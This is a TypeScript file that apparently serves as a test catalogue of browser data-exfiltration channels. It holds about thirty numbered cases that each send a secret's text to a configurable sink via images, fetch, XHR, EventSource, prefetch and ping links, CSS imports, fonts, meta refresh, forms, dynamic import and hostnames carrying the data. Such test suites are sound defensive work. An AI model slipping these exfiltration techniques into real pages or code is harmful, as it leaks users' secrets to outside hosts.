import { type Attack, row, type Secret, variant } from '../attack.ts';

function address(secret: Secret, name: string): string {
  return `${secret.sink}${name}?q=${encodeURIComponent(secret.text)}`;
}

function element<K extends keyof HTMLElementTagNameMap>(name: K, set: Partial<HTMLElementTagNameMap[K]>): HTMLElementTagNameMap[K] {
  const made = Object.assign(document.createElement(name), set);
  document.body.append(made);
  return made;
}

function image(secret: Secret): void {
  new Image().src = address(secret, 'image.png');
}

/** Text that rides in an address: no body, no script call that could be wrapped for most of them. */
export const ADDRESSES: readonly Attack[] = [
  row('11', 'image, value in the query', image),
  variant('11b', 'image by markup', (secret) => {
    const place = element('div', {});
    place.innerHTML = `<img src="${address(secret, 'markup.png')}">`;
  }),
  variant('11c', 'image, value that nobody wrote', image, { unwritten: true }),
  variant('11d', 'image, value in base64', (secret) => {
    new Image().src = `${secret.sink}image.png?d=${btoa(secret.text)}`;
  }),
  variant('11e', 'fetch GET, value in the query', (secret) => fetch(address(secret, 'get'))),
  variant(
    '11f',
    'XHR GET, value that nobody wrote',
    (secret) => {
      const request = new XMLHttpRequest();
      request.open('GET', address(secret, 'get'));
      request.send();
    },
    { unwritten: true },
  ),
  variant('11g', 'fetch GET, value in the path', (secret) => fetch(`${secret.sink}${secret.value}`)),
  variant(
    '11h',
    'fetch GET, value in the name of a host',
    (secret) => fetch(`https://${secret.value}${secret.domain}/`, { mode: 'no-cors' }),
    {
      sign: 'host',
    },
  ),
  variant(
    '11i',
    'image, value in the name of a host',
    (secret) => void element('img', { src: `https://${secret.value}${secret.domain}/image.png` }),
    {
      sign: 'host',
    },
  ),
  variant(
    '87',
    'link rel=preconnect, value in the name of a host',
    (secret) => {
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'preconnect', href: `https://${secret.value}${secret.domain}` }),
      );
    },
    { sign: 'host' },
  ),
  row('12', 'EventSource, value in the query', (secret) => void new EventSource(address(secret, 'events'))),
  row('35', 'link rel=prefetch', (secret) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: address(secret, 'prefetch') }));
  }),
  row('36', 'a ping', (secret) => element('a', { href: '#there', ping: address(secret, 'ping'), textContent: 'there' }).click()),
  row('37', 'navigation to ?q=', (secret) => {
    location.href = address(secret, 'page');
  }),
  variant('37b', 'navigation to ?q= by a link', (secret) => element('a', { href: address(secret, 'page'), textContent: 'there' }).click()),
  variant('37c', 'window.open of ?q=', (secret) => void window.open(address(secret, 'page'))),
  variant('37d', 'frame with ?q=', (secret) => void element('iframe', { src: address(secret, 'page') })),
  row('39', 'CSS background address', (secret) => {
    element('div', { textContent: 'x' }).style.backgroundImage = `url("${address(secret, 'background.png')}")`;
  }),
  variant('39b', '@import in a style sheet', (secret) => {
    document.head.append(Object.assign(document.createElement('style'), { textContent: `@import "${address(secret, 'sheet.css')}";` }));
  }),
  row('65', 'image, candidates of srcset', (secret) => void element('img', { srcset: `${address(secret, 'image.png')} 2x` })),
  variant('65b', 'poster of a video', (secret) => void element('video', { poster: address(secret, 'image.png') })),
  variant('65c', 'image in SVG', (secret) => {
    element('div', {}).innerHTML = `<svg><image href="${address(secret, 'image.png')}"/></svg>`;
  }),
  row('66', 'object with the value in its address', (secret) => void element('object', { data: address(secret, 'page') })),
  row('67', 'script, value in the query', (secret) => void element('script', { src: address(secret, 'module.js') })),
  variant('67b', 'link rel=modulepreload', (secret) => void element('link', { rel: 'modulepreload', href: address(secret, 'module.js') })),
  variant('67c', 'link rel=stylesheet', (secret) => void element('link', { rel: 'stylesheet', href: address(secret, 'sheet.css') })),
  row('68', 'address of a font', (secret) => new FontFace('note', `url("${address(secret, 'font.woff2')}")`).load()),
  row('69', 'meta refresh', (secret) => {
    const refresh = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${address(secret, 'page')}` });
    document.head.append(refresh);
  }),
  row('70', 'form GET by the formaction of a button', (secret) => {
    const form = element('form', { method: 'get', action: '/blank', target: 'nowhere' });
    form.innerHTML = '<input name="q"><button>Go</button>';
    const [field, button] = [form.querySelector('input'), form.querySelector('button')];
    if (!field || !button) return;
    field.value = secret.text;
    button.formAction = `${secret.sink}page`;
    button.click();
  }),
  row('57', 'import() with the value in the query', (secret) => import(/* @vite-ignore */ address(secret, 'module.js'))),
];
